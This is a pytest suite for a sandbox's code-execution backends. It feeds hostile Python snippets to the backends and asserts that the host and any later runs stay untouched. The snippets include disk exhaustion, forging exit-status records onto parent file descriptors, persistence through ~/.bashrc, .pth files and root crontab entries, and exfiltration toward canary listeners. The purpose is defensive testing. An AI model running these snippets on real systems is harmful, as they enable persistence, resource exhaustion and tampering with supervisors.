DISK_OTHER = {
    "sparse_huge_file": "import os\nwith open('{token}-sparse', 'wb') as f:\n"
    "    f.truncate(1 << 40)\n",
    "fallocate_huge_file": "import os\nfd = os.open('{token}-alloc', os.O_CREAT | os.O_WRONLY)\n"
    "os.posix_fallocate(fd, 0, 1 << 34)\n",
    "deep_directories": "import os\np = '{token}'\nfor i in range(2000):\n"
    "    os.mkdir(p)\n    os.chdir(p)\nprint('deep')\n",
    "many_hard_links": "import os\nopen('{token}-src', 'w').write('x')\nfor i in range(100000):\n"
    "    os.link('{token}-src', '{token}-l%d' % i)\n",
}


def _disk_contained(r: ExecutionResult, c: Ctx) -> None:
    _ends_in_time(r, c)


FORGE_OTHER = {
    "forge_frame_on_every_fd_number": "import os, struct, sys\nframe = b'{{\"exit_code\": 0}}'\n"
    "for fd in range(3, 1024):\n    try:\n"
    "        os.write(fd, struct.pack('>I', len(frame)) + frame)\n        print('WROTE', fd)\n"
    "    except OSError:\n        pass\nprint('EXTRA []\\nWROTE []')\nsys.exit(1)\n",
    "forge_status_record_on_fds": "import os, sys\n"
    "rec = repr({{'exit_code': 0, 'cpu_s': 0.0, 'max_rss_kb': 1}}).encode() + b'\\n'\n"
    "for fd in range(3, 64):\n    try:\n        os.write(fd, rec * 100)\n"
    "        print('WROTE', fd)\n"
    "    except OSError:\n        pass\nprint('EXTRA []\\nWROTE []')\nsys.exit(1)\n",
    "forge_reply_on_stdout": "import sys, json\n"
    "print(json.dumps({{'stdout': '42', 'exit_code': 0, 'timed_out': False}}))\n"
    "print(repr({{'exit_code': 0, 'cpu_s': 0.0, 'max_rss_kb': 1}}))\n"
    "print('EXTRA []\\nWROTE []')\nsys.exit(1)\n",
    "forge_via_parent_fds_in_proc": "import os, sys\nppid = os.getppid()\n"
    "try:\n    names = os.listdir(f'/proc/{{ppid}}/fd')\nexcept OSError:\n    names = []\n"
    "for n in names:\n    try:\n"
    "        fd = os.open(f'/proc/{{ppid}}/fd/{{n}}', os.O_WRONLY)\n"
    "        os.write(fd, b\"{{'exit_code': 0, 'cpu_s': 0.0, 'max_rss_kb': 1}}\\n\")\n"
    "        print('WROTE', n)\n    except OSError:\n        pass\n"
    "print('EXTRA []\\nWROTE []')\nsys.exit(1)\n",
}


def _only_real_exit(r: ExecutionResult, c: Ctx) -> None:
    assert r.exit_code == 1 and not r.ok, r
    lines = r.stdout.splitlines()
    assert not any(ln.startswith("WROTE ") and ln != "WROTE []" for ln in lines), r.stdout[:500]


OUTPUT = {
    "null_bytes": ("import sys\nsys.stdout.write('a\\0b\\0' * 1000)\n", "a\0b"),
    "ansi_escapes": ("print('\\x1b[2J\\x1b[31mred\\x1b]0;title\\x07 done')\n", "done"),
    "many_tiny_lines": ("import sys\nsys.stdout.write('x\\n' * 2_000_000)\n", None),
    "utf8_split_at_the_cap": ("import sys\nsys.stdout.write('日' * 400_000)\n", None),
    "lone_surrogates": (
        "import sys\nsys.stdout.buffer.write('\\ud800 ok'.encode('utf-8', 'surrogatepass'))\n",
        "ok",
    ),
    "exit_without_flush": ("import os, sys\nsys.stdout.write('buffered')\nos._exit(0)\n", None),
    "closed_stdout": ("import os\nos.close(1)\nos.close(2)\nprint('gone')\n", None),
    "interleaved_floods": (
        "import sys\nfor i in range(200000):\n    sys.stdout.write('o' * 10)\n"
        "    sys.stderr.write('e' * 10)\n",
        None,
    ),
}


def _output_ok(needle: str | None) -> Callable[[ExecutionResult, Ctx], None]:
    def check(r: ExecutionResult, c: Ctx) -> None:
        assert len(r.stdout) <= LIMITS.max_output_bytes and len(r.stderr) <= LIMITS.max_output_bytes
        if needle is not None:
            assert needle in r.stdout, r.stdout[:300]
        _ends_in_time(r, c)

    return check


# Leftovers for the next run; CLEAN_PROBE (and the host checks) must find none of them.
LEFTOVERS = {
    "leftover_in_dev_shm": "open('/dev/shm/{token}-left', 'w').write('x')",
    "leftover_in_var_tmp": "open('/var/tmp/{token}-left', 'w').write('x')",
    "leftover_in_home_cache": "import os\nd = os.path.expanduser('~/.cache')\n"
    "os.makedirs(d, exist_ok=True)\nopen(d + '/{token}-left', 'w').write('x')",
    "leftover_bashrc": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('# {token}')",
    "leftover_user_site": "import os, site\n"
    "os.makedirs(site.getusersitepackages(), exist_ok=True)\n"
    "open(site.getusersitepackages() + '/{token}.pth', 'w').write('import os')",
    "leftover_sysv_shared_memory": "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "assert libc.shmget({key}, 4096, 0o1666) >= 0",
    "leftover_sysv_message_queue": "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "assert libc.msgget({key}, 0o1666) >= 0",
    "leftover_posix_mqueue": "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "assert libc.mq_open(b'/{token}', 0o100 | 2, 0o666, None) >= 0",
    "leftover_crontab": "import os\nos.makedirs('/var/spool/cron/crontabs', exist_ok=True)\n"
    "open('/var/spool/cron/crontabs/root', 'a').write('* * * * * echo {token}\\n')",
    "leftover_hostname": "import socket\nsocket.sethostname('{token}')",
}
LEFTOVER_PROGRAM = """
try:
{op}
    print('PLANTED')
except (OSError, AssertionError) as exc:
    print('blocked', type(exc).__name__)
"""


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.splitlines())


def _generated_cases() -> list[Case]:
    cases: list[Case] = []
    for name, path in READS:
        check = _env_check if "environ" in name else _read_check_for(path)
        cases.append(
            Case(name, lambda c, p=path: READ_PROGRAM.format(path=p(c)), check, cat="secrets")
        )
    cases.append(
        Case(
            "dump_own_environment",
            lambda c: "import os\nprint(dict(os.environ))\n",
            _env_check,
            cat="secrets",
        )
    )
    for name, send in EXFIL.items():
        cases.append(
            Case(
                name,
                lambda c, s=send: EXFIL_PROGRAM.format(
                    path=str(c.canaries["project"]),
                    send=_indent(
                        s.format(
                            tcp=c.host_port,
                            any_tcp=c.any_tcp_port,
                            ip=c.host_ip,
                            udp=c.udp_port,
                            abstract=c.abstract,
                        )
                    ),
                ),
                # A datagram "sends" inside the guest; the host's listeners judge that one.
                lambda r, c, n=name: _assert(n == "exfil_over_udp" or "SENT" not in r.stdout, r),
                cat="secrets",
            )
        )
    for name, targets in CONNECTS:
        cases.append(
            Case(
                name,
                lambda c, t=targets: CONNECT.format(targets=t(c), token=c.token),
                _not_connected,
                cat="network",
            )
        )
    for name, code in NET_OTHER.items():
        cases.append(
            Case(
                name,
                lambda c, k=code: k.format(abstract=c.abstract, any_tcp=c.any_tcp_port),
                lambda r, c: _assert("CONNECTED" not in r.stdout, r),
                cat="network",
            )
        )
    cases.append(
        Case(
            "connect_world_writable_unix_socket",
            lambda c: NET_OTHER["connect_abstract_unix_socket"].format(abstract=c.unix_path),
            lambda r, c: _assert("CONNECTED" not in r.stdout, r),
            cat="network",
        )
    )
    for op_name, op in WRITE_OPS.items():
        for where in ("tmp", "home", "project"):
            cases.append(
                Case(
                    f"{op_name}_canary_in_{where}",
                    lambda c, o=op, w=where: WRITE_PROGRAM.format(
                        path=repr(str(c.canaries[w])), op=o
                    ),
                    _unchanged_host,
                    cat="host_files",
                )
            )
    for name, make in WRITE_OTHER.items():
        cases.append(Case(name, make, _unchanged_host, cat="host_files"))
    for name, op in SIGNALS.items():
        cases.append(
            Case(
                name,
                lambda c, o=op: SIGNAL_PROGRAM.format(
                    op=_indent(o.format(pid=c.host_pid, runner=c.runner_pid)).strip()
                ),
                lambda r, c: (_assert("SIGNALLED" not in r.stdout, r), _ends_in_time(r, c)),
                cat="signals",
            )
        )
    for name, code in BOMBS.items():
        cases.append(Case(name, lambda c, k=code: k, _bomb_contained, cat="bombs"))
    for name, where in DISK.items():
        cases.append(
            Case(
                name,
                lambda c, d=where: DISK_PROGRAM.format(d=d, token=c.token),
                _disk_contained,
                cat="disk",
            )
        )
    for name, code in DISK_OTHER.items():
        cases.append(
            Case(name, lambda c, k=code: k.format(token=c.token), _disk_contained, cat="disk")
        )
    for name, code in FORGE_OTHER.items():
        cases.append(
            Case(name, lambda c, k=code: k.format(), _only_real_exit, cat="forged_replies")
        )
    for name, (code, needle) in OUTPUT.items():
        cases.append(Case(name, lambda c, k=code: k, _output_ok(needle), cat="output"))
    for name, op in LEFTOVERS.items():
        cases.append(
            Case(
                name,
                lambda c, o=op: LEFTOVER_PROGRAM.format(
                    op=_indent(o.format(token=c.token, key=c.ipc_key))
                ),
                _ends_in_time,
                cat="leftovers",
            )
        )
    return cases


for _case in CASES:
    _case.cat = CATEGORY_OF[_case.name]
CASES += _generated_cases()
CATEGORY_MINIMUM = {
    "secrets": 20,
    "host_files": 20,
    "network": 15,
    "signals": 12,
    "bombs": 12,
    "disk": 8,
    "forged_replies": 7,
    "output": 10,
    "leftovers": 12,
}


def _assert(condition: bool, detail: object) -> None:
    assert condition, detail


def _prints_contains(r: ExecutionResult, text: str) -> None:
    assert text in r.stdout, (r.stdout[-500:], r.stderr[-500:])


CLEAN_PROBE = """
import json, os, socket
token = {token!r}
procs = []
for p in os.listdir('/proc'):
    if p.isdigit():
        try:
            cmd = open(f'/proc/{{p}}/cmdline', 'rb').read()
        except OSError:
            continue
        if token.encode() in cmd:
            procs.append(p)
files = []
home = os.path.expanduser('~')
for d in {{'.', '/tmp', home, os.environ.get('TMPDIR', '/tmp'), '/dev/shm', '/var/tmp',
          home + '/.cache', '/dev/mqueue'}}:
    try:
        files += [f for f in os.listdir(d) if token in f]
    except OSError:
        pass
for path in [home + '/.bashrc', '/var/spool/cron/crontabs/root', '/proc/sysvipc/shm',
             '/proc/sysvipc/msg']:
    try:
        text = open(path).read()
    except OSError:
        continue
    if token in text or ' {key} ' in text:
        files.append(path)
if token in socket.gethostname():
    files.append('hostname')
env = [k for k, v in os.environ.items() if token in k or token in v]
print(json.dumps({{"procs": procs, "files": files, "env": env}}))
"""


def _host_pids_with(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if token.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                continue
    return found


def _host_state(ctx: Ctx) -> dict[str, object]:
    """What an attack must not change on the host: canaries, real files, processes, IPC."""
    state: dict[str, object] = {}
    files = [*ctx.canaries.values(), *REAL_FILES]
    for path in files:
        try:
            st = path.stat()
            state[str(path)] = (hashlib.sha256(path.read_bytes()).hexdigest(), st.st_mode)
        except OSError as exc:
            state[str(path)] = type(exc).__name__
    for d in [ctx.tmp, PROJECT, Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path.home()]:
        state[f"{d} entries with the token"] = sorted(p.name for p in d.glob(f"*{ctx.token}*"))
    for ipc in ("shm", "msg"):
        text = Path(f"/proc/sysvipc/{ipc}").read_text()
        state[f"sysv {ipc} with the key"] = f" {ctx.ipc_key} " in text
    state["hostname"] = socket.gethostname()
    stat = Path(f"/proc/{ctx.host_pid}/stat").read_text().rsplit(")", 1)[1].split()
    state["host process stopped or dead, nice"] = (stat[0] in "TtXZ", stat[16])
    state["host process affinity"] = sorted(os.sched_getaffinity(ctx.host_pid))
    state["processes with the token"] = _host_pids_with(ctx.token)
    return state


# Real host files every case hashes besides the canaries (read-only for the test itself).
REAL_FILES = [
    Path("/etc/passwd"),
    Path("/etc/hosts"),
    PROJECT / "pyproject.toml",
    PROJECT / "sandbox" / "process.py",
    Path(os.path.realpath(sys.executable)),
]


@pytest.fixture(scope="module")
def process_executor() -> Iterator[object]:
    from sandbox.registry import get_executor

    executor = get_executor("process")
    yield executor
    executor.close()


@pytest.fixture
def backend(request: pytest.FixtureRequest):
    if request.param == "vm":
        return request.getfixturevalue("vm_executor")
    return request.getfixturevalue("process_executor")


def _outbound_ip() -> str:
    """This host's address on its default route (no packet is sent), else loopback."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("192.0.2.1", 9))
            return str(s.getsockname()[0])
        except OSError:
            return "127.0.0.1"


def _listener(family: int, kind: int, address: object) -> socket.socket:
    sock = socket.socket(family, kind)
    sock.bind(address)
    if kind == socket.SOCK_STREAM:
        sock.listen(16)
    sock.setblocking(False)
    return sock


@pytest.fixture
def ctx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Ctx]:
    """Host canaries and loopback listeners around one case; records whatever reaches them."""
    token = "wmhostile" + uuid.uuid4().hex[:10]
    host_marker = "wmhostproc" + uuid.uuid4().hex[:10]
    secret = "wmsecret" + uuid.uuid4().hex
    monkeypatch.setenv("WM_CANARY_SECRET", secret)
    canaries = {
        "tmp": tmp_path / "canary-secret",
        "home": Path.home() / f".wm-canary-{token}",
        "project": PROJECT / f".wm-canary-{token}",
    }
    for where, path in canaries.items():
        path.write_text(f"{secret}\n")
        path.chmod(0o644 if where == "project" else 0o600)
    wm_home = Path.home() / f".wm-canary-home-{token}"
    wm_home.mkdir(mode=0o700)
    (wm_home / "client_key").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{secret}\n")
    listeners = [
        _listener(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
        _listener(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
        _listener(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 0)),
        _listener(socket.AF_UNIX, socket.SOCK_STREAM, f"\0wm-canary-{token}"),
        _listener(socket.AF_UNIX, socket.SOCK_STREAM, str(PROJECT / f".wm-canary-{token}.sock")),
    ]
    os.chmod(PROJECT / f".wm-canary-{token}.sock", 0o777)
    tcp6 = 0
    if socket.has_ipv6:
        try:
            listeners.append(_listener(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 0)))
            tcp6 = listeners[-1].getsockname()[1]
        except OSError:
            pass
    # A host process whose command line carries a token and whose environment carries the
    # secret: the code must not see, signal or slow it.
    host_proc = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(300)", host_marker],
        env={**os.environ, "WM_CANARY_SECRET": secret},
    )
    received: list[str] = []
    stop = threading.Event()

    def watch() -> None:
        import selectors

        sel = selectors.DefaultSelector()
        for sock in listeners:
            sel.register(sock, selectors.EVENT_READ)
        while not stop.is_set():
            for key, _ in sel.select(timeout=0.1):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    if sock.type == socket.SOCK_STREAM:
                        conn, addr = sock.accept()
                        received.append(f"connection to {sock.getsockname()!r} from {addr!r}")
                        conn.close()
                    else:
                        data, addr = sock.recvfrom(4096)
                        received.append(f"datagram {data[:40]!r} from {addr!r}")
                except OSError:
                    pass
        sel.close()

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    c = Ctx(
        token,
        host_marker,
        listeners[0].getsockname()[1],
        listeners[1].getsockname()[1],
        tmp_path,
        secret=secret,
        canaries=canaries,
        wm_home=wm_home,
        host_pid=host_proc.pid,
        runner_pid=os.getpid(),
        tcp6_port=tcp6,
        any_tcp_port=listeners[2].getsockname()[1],
        host_ip=_outbound_ip(),
        abstract=f"\0wm-canary-{token}",
        unix_path=str(PROJECT / f".wm-canary-{token}.sock"),
        ipc_key=int(uuid.uuid4().int % 2_000_000_000) + 1,
    )
    c.received = received  # type: ignore[attr-defined]
    try:
        yield c
    finally:
        stop.set()
        watcher.join()
        host_proc.kill()
        host_proc.wait()
        for sock in listeners:
            sock.close()
        for path in canaries.values():
            path.unlink(missing_ok=True)
        for path in PROJECT.glob(f".wm-canary-{token}*"):
            path.unlink()
        subprocess.run(["rm", "-rf", str(wm_home)], check=False)


BACKENDS = [
    pytest.param("vm", marks=[pytest.mark.vm, pytest.mark.integration, pytest.mark.slow], id="vm"),
    pytest.param("process", id="process"),
]


def _case_params() -> list:
    return [pytest.param(case, id=case.name) for case in CASES]


def test_suite_has_enough_programs() -> None:
    assert len(CASES) >= 100
    assert len({c.name for c in CASES}) == len(CASES)
    counts = {cat: sum(c.cat == cat for c in CASES) for cat in CATEGORY_MINIMUM}
    assert all(counts[cat] >= n for cat, n in CATEGORY_MINIMUM.items()), counts
    assert all(c.cat in CATEGORY_MINIMUM for c in CASES)


@pytest.mark.parametrize("backend", BACKENDS, indirect=True)
@pytest.mark.parametrize("case", _case_params())
def test_hostile(backend, case: Case, ctx: Ctx, request: pytest.FixtureRequest) -> None:
    name = request.node.callspec.params["backend"]
    if name == "process" and case.vm_only:
        pytest.skip(case.vm_only)
    before = _host_state(ctx)
    result = backend.run(case.code(ctx), limits=case.limits)
    assert result.backend == name
    if name == "vm":
        assert result.details.get("accelerator") in ("kvm", "tcg")
    case.check(result, ctx)

    # The host is unchanged: the canaries' and real files' hashes and modes, its processes
    # (alive, not stopped, not reniced), its IPC, and no listener saw a connection.
    time.sleep(0.2)
    assert _host_state(ctx) == before, "the attack changed the host"
    assert ctx.received == [], f"the host's listeners were reached: {ctx.received}"  # type: ignore[attr-defined]

    # The backend still serves, and the next execution sees nothing of the attack.
    probe = backend.run(
        CLEAN_PROBE.format(token=ctx.token, key=ctx.ipc_key),
        limits=Limits(wall_time_s=20, cpu_time_s=20),
    )
    assert probe.exit_code == 0, probe
    seen = json.loads(probe.stdout.strip().splitlines()[-1])
    assert seen == {"procs": [], "files": [], "env": []}, seen
